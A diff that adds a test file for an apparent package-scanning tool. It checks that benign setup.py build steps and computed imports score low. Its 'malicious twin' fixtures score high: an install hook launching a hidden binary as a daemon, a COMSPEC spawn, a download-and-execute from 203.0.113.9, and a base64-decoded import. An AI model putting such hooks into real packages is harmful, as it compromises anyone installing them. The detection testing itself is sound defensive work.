@@ -1,0 +1,175 @@
+"""Shapes of popular sdists and releases that cried wolf on the tune-only data of round 8
+(place, chain and impact threats), read as what they are (no project names), each beside its
+malicious twin that must stay high:
+
+* a build step's start in setup.py: a ``build_ext``/``build_clib`` override (or a helper only
+  it calls) starting a program the code computes (the compiler it was handed, ``configure``,
+  ``pg_config``, ``make``) compiles the package: no install hook that acts. The same
+  computed start inside an ``install``/``develop``/``egg_info`` override, or in a helper one
+  of them calls, still acts;
+* a module imported by a computed name in setup.py (a test loader's ``__import__(name)``
+  over the test folder, a PEP 562 lazy loader's ``import_module("." + name, __name__)`` in
+  the version file setup.py runs) loads a module the scan reads or one already installed:
+  no install-time act. A name that is decoded or downloaded first stays a chain.
+"""
+
+from __future__ import annotations
+
+from app.core.archive import open_artifact
+from app.core.capabilities.scan import scan_artifact
+from tests.core.archive.fixtures import make_sdist
+
+HIGH = ("high", "critical")
+
+
+def _sdist(tmp_path, setup_py: str, files: dict[str, bytes] | None = None):
+    content = {"setup.py": setup_py.encode(), **(files or {})}
+    return scan_artifact(open_artifact(make_sdist(tmp_path, name="tidy", files=content)))
+
+
+def _install_time(res) -> bool:
+    return any(t.id == "place.install_time" and t.severity in HIGH for t in res.threats)
+
+
+# A C extension whose build_ext asks the compiler it was handed for its version, and whose
+# build_clib runs the bundled library's configure script: both programs computed.
+BUILD_EXT = """import os, re, subprocess, sys
+from setuptools import setup, Extension
+from setuptools.command.build_ext import build_ext
+from distutils.command.build_clib import build_clib
+
+
+def _gcc_major(compiler):
+    cc = getattr(compiler, "compiler_so", None)
+    out = subprocess.run([*cc, "-dM", "-E", "-x", "c", os.devnull],
+                         capture_output=True, text=True).stdout
+    m = re.search(r"__GNUC__ (\\d+)", out)
+    return int(m.group(1)) if m else None
+
+
+class BuildExt(build_ext):
+    def build_extensions(self):
+        if (_gcc_major(self.compiler) or 99) < 10:
+            for ext in self.extensions:
+                ext.extra_compile_args = ["-Wno-sign-conversion"]
+        build_ext.build_extensions(self)
+
+
+class BuildClib(build_clib):
+    def run(self):
+        configure = self.find_script("configure")
+        subprocess.check_call([configure] + ["--disable-shared", "--prefix", self.build_clib])
+
+
+class Install(__import__("setuptools").command.install.install):
+    def run(self):
+        super().run()
+
+
+setup(
+    name="tidy",
+    ext_modules=[Extension("tidy._speedups", ["tidy/_speedups.c"])],
+    cmdclass={"build_ext": BuildExt, "build_clib": BuildClib, "install": Install},
+)
+"""
+
+
+def test_a_build_step_starting_the_compiler_it_computes_is_no_acting_hook(tmp_path):
+    res = _sdist(tmp_path, BUILD_EXT)
+    starts = [h for h in res.findings if h.capability == "process.spawn" and h.path == "setup.py"]
+    assert len(starts) == 2, "both starts are shown"
+    assert all(h.severity == "medium" for h in starts)
+    assert any(h.rule == "py.setup_cmdclass" for h in res.findings), "the overrides are shown"
+    assert not _install_time(res)
+    assert res.risk.level not in HIGH
+
+
+def test_the_same_computed_start_in_an_install_override_acts(tmp_path):
+    evil = BUILD_EXT.replace(
+        "        super().run()\n",
+        "        super().run()\n"
+        "        helper = os.path.join(os.path.expanduser('~'), '.cache', 'svc')\n"
+        "        subprocess.Popen([helper, '--daemon'])\n",
+    )
+    res = _sdist(tmp_path, evil)
+    assert _install_time(res)
+    assert res.risk.level in HIGH
+
+
+def test_a_computed_start_in_a_helper_the_install_override_calls_acts(tmp_path):
+    evil = BUILD_EXT.replace(
+        "        super().run()\n",
+        "        super().run()\n        _post_install()\n",
+    ).replace(
+        "class BuildExt(build_ext):",
+        "def _post_install():\n"
+        "    cmd = [os.environ.get('COMSPEC'), '/c', sys.argv[0]]\n"
+        "    subprocess.Popen(cmd)\n\n\n"
+        "class BuildExt(build_ext):",
+    )
+    assert _install_time(_sdist(tmp_path, evil))
+
+
+def test_a_build_step_starting_what_it_downloaded_stays_high(tmp_path):
+    evil = BUILD_EXT.replace(
+        '        configure = self.find_script("configure")\n',
+        "        import urllib.request\n"
+        "        configure, _ = urllib.request.urlretrieve('http://203.0.113.9/c', 'c')\n",
+    )
+    res = _sdist(tmp_path, evil)
+    assert res.risk.level in HIGH
+
+
+# setup.py's test loader and the package's lazy loader (PEP 562), in the version file setup.py
+# runs: modules imported by names the code computes.
+TEST_LOADER = """import os, sys
+from setuptools import setup
+
+ns = {}
+with open("tidy/__init__.py") as f:
+    exec(f.read(), ns)
+
+
+def test_loader():
+    import unittest
+    topdir = os.path.dirname(os.path.abspath(__file__))
+    names = [fn[:-3] for fn in os.listdir(os.path.join(topdir, "tidy_tests")) if fn.endswith(".py")]
+    sys.path.insert(0, os.path.join(topdir, "tidy_tests"))
+    suites = []
+    for name in names:
+        module = __import__(name)
+        suites.append(unittest.defaultTestLoader.loadTestsFromModule(module))
+    return unittest.TestSuite(suites)
+
+
+setup(name="tidy", version=ns["version"], test_suite="__main__.test_loader")
+"""
+LAZY_INIT = """import importlib
+version = "1.0"
+__all__ = ["web", "template"]
+
+
+def __getattr__(name):
+    if name in __all__:
+        return importlib.import_module("." + name, __name__)
+    raise AttributeError(name)
+"""
+
+
+def test_modules_imported_by_computed_names_in_setup_py_are_no_install_act(tmp_path):
+    res = _sdist(tmp_path, TEST_LOADER, {"tidy/__init__.py": LAZY_INIT.encode()})
+    imports = [h for h in res.findings if h.rule == "py.exec_dynamic"]
+    assert {h.path for h in imports} == {"setup.py", "tidy/__init__.py"}, "both are shown"
+    assert all(h.severity not in HIGH for h in imports)
+    assert not _install_time(res)
+    assert res.risk.level not in HIGH
+
+
+def test_a_module_name_decoded_in_setup_py_stays_a_chain(tmp_path):
+    evil = TEST_LOADER.replace(
+        "        module = __import__(name)\n",
+        "        import base64\n        module = __import__(base64.b64decode(name).decode())\n",
+    )
+    res = _sdist(tmp_path, evil, {"tidy/__init__.py": LAZY_INIT.encode()})
+    assert res.risk.level in HIGH
+    assert any(t.id == "chain.decode_exec" for t in res.threats if t.severity in HIGH)
